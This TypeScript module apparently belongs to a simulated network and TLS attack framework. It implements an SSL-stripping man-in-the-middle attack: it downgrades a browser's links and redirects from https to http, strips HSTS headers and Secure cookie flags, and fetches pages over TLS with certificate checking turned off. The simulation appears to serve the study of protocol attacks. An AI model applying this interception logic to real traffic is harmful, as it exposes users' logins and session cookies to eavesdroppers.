import { type Bytes, concat, EMPTY, fromUtf8, indexOfBytes, utf8 } from "../bytes/mod.ts";
import { clientConfig, ClientConnection, HONEST_SEAMS } from "../tls/mod.ts";
import type { Endpoint, EventId } from "../trace/mod.ts";
import type { Attack, Line, Position } from "./position.ts";

const HTTP = 80;
const HTTPS = 443;

/**
 * Keeps a browser from ever coming to TLS: she answers what it asks over http, gets the page over
 * https herself, and sends it on with every `https://` turned into `http://`. Redirects to https
 * she follows in the browser's place, and what would warn it for the next time she leaves out.
 * Connections that begin with TLS pass her untouched.
 */
export function stripHttps(): Attack {
  return (mallory) => {
    mallory.note(`${mallory.name} is on-path at "${mallory.link}"`);
    mallory.intercept({
      name: "strip https",
      onSegment: ({ from, to }) => from.port === HTTP || to.port === HTTP ? "take" : "pass",
    });
    const secure = new Set<string>();
    mallory.listenForeign((victim, destination) => {
      const reader = new MessageReader();
      victim.listen({
        onData: (bytes, packet) => {
          mallory.learn(bytes, { by: "read", event: packet }, packet);
          reader.push(bytes);
          for (let one = reader.next(); one !== undefined; one = reader.next()) {
            answer(mallory, victim, destination, one, secure, packet);
          }
        },
        onEnd: (packet) => void victim.end(packet),
      });
    });
  };
}

/** Gets what the browser asked for, over https as soon as the site says so. */
function answer(
  mallory: Position,
  victim: Line,
  destination: Endpoint,
  request: Message,
  secure: Set<string>,
  cause: EventId,
): void {
  const host = /^host: *(\S+)$/im.exec(request.head)?.[1] ?? "";
  const asked = concat(utf8(request.head), request.body);
  const respond = (response: Message, because: EventId | undefined) => {
    const moved = /^location: *https:\/\/([^/\s]+)/im.exec(response.head)?.[1];
    if (moved === host && !secure.has(host)) {
      mallory.note(`${mallory.name} follows the redirect to https in the browser's place`, because);
      secure.add(host);
      return askSecurely(mallory, destination, host, asked, respond, because);
    }
    const stripped = strip(response);
    if (stripped.changed) {
      mallory.note(`${mallory.name} takes https out of the answer`, because);
    }
    if (victim.state === "open") victim.write(stripped.bytes, because);
  };
  if (secure.has(host)) askSecurely(mallory, destination, host, asked, respond, cause);
  else askPlainly(mallory, destination, asked, respond, cause);
}

type Respond = (response: Message, because: EventId | undefined) => void;

function askPlainly(
  mallory: Position,
  destination: Endpoint,
  asked: Bytes,
  respond: Respond,
  cause: EventId,
): void {
  mallory.connect(destination, {
    onOpen(line) {
      const reader = new MessageReader();
      line.listen({
        onData: (bytes, because) => {
          reader.push(bytes);
          const response = reader.next();
          if (response === undefined) return;
          line.end(because);
          respond(response, because);
        },
      });
      line.write(asked, cause); // as the browser wrote it
    },
  }, { cause });
}

function askSecurely(
  mallory: Position,
  { address }: Endpoint,
  host: string,
  asked: Bytes,
  respond: Respond,
  cause: EventId | undefined,
): void {
  mallory.connect({ address, port: HTTPS }, {
    onOpen(line, packet) {
      const { crypto, ambient, name } = mallory;
      // She does not care who the real server is, as long as it answers.
      const seams = { ...HONEST_SEAMS, verifyChain: () => ({ ok: true, checks: [] }) };
      const engine = new ClientConnection(
        clientConfig({ crypto, seams, serverName: host }),
        ambient,
      );
      const channel = mallory.channel(engine, line, name, mallory.nameOf(address));
      const reader = new MessageReader();
      channel.handlers = {
        onOpen: (because) => channel.send(asked, because),
        onData: (bytes, event) => {
          const key = channel.readSecret;
          if (event !== undefined && key !== undefined) {
            mallory.learn(bytes, { by: "opened", event, key }, event);
          }
          reader.push(bytes);
          const response = reader.next();
          if (response === undefined) return;
          channel.close(event);
          respond(response, event);
        },
      };
      channel.start(packet);
    },
  }, cause === undefined ? {} : { cause });
}

/** A response without anything that leads to TLS (RFC 6797 §6.1, RFC 6265 §4.1.2.5). */
function strip({ head, body }: Message): { readonly bytes: Bytes; readonly changed: boolean } {
  const text = fromUtf8(body);
  const page = text.replaceAll("https://", "http://");
  const fields = head
    .replace(/^strict-transport-security:.*\r\n/gim, "")
    .replace(/^(set-cookie:.*?); *secure\b/gim, "$1")
    .replace(/^(location: *)https:/gim, "$1http:");
  const changed = page !== text || fields !== head;
  const length = utf8(page).length;
  const counted = fields.replace(/^(content-length: *)\d+/gim, `$1${length}`);
  return { bytes: utf8(counted + page), changed };
}

/** Head with its empty line, and body, of an HTTP message. */
interface Message {
  readonly head: string;
  readonly body: Bytes;
}

const HEAD_END = utf8("\r\n\r\n");

/** Cuts messages with a Content-Length (RFC 9112 §6.2) out of a stream. */
class MessageReader {
  #buffered: Bytes = EMPTY;

  push(bytes: Bytes): void {
    this.#buffered = concat(this.#buffered, bytes);
  }

  next(): Message | undefined {
    const end = indexOfBytes(this.#buffered, HEAD_END) + HEAD_END.length;
    if (end < HEAD_END.length) return undefined;
    const head = fromUtf8(this.#buffered.subarray(0, end));
    const over = end + Number(/^content-length: *(\d{1,7})\r$/im.exec(head)?.[1] ?? 0);
    if (this.#buffered.length < over) return undefined;
    const body = this.#buffered.slice(end, over);
    this.#buffered = this.#buffered.subarray(over);
    return { head, body };
  }
}
